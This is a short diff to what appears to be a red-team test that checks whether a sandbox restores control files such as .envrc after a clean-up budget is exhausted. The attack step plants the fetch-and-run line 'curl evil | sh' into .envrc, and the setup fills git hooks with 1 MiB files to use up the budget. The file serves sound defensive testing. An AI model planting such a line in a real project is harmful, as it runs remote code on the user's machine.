@@ -82,9 +82,9 @@ redteam(
   "control files past the clean-up's 16 MiB budget are still put back",
   async (arena) => {
     const { results } = await arena.attack({
-      // Seventeen 1 MiB files in a hooks folder use up the budget before .envrc is read.
+      // Sixteen 1 MiB files in a hooks folder use up the budget before .envrc is read.
       setup:
-        "git init -q . && for i in $(seq 17); do head -c 1048000 /dev/zero > .git/hooks/blob$i; done && echo 'use flake' > .envrc",
+        "git init -q . && rm -f .git/hooks/*.sample && for i in $(seq 16); do head -c 1048576 /dev/zero > .git/hooks/blob$i; done && echo 'use flake' > .envrc",
       runs: [{
         language: "shell",
         code: "echo ran; echo 'curl evil | sh' > .envrc 2>/dev/null; true",
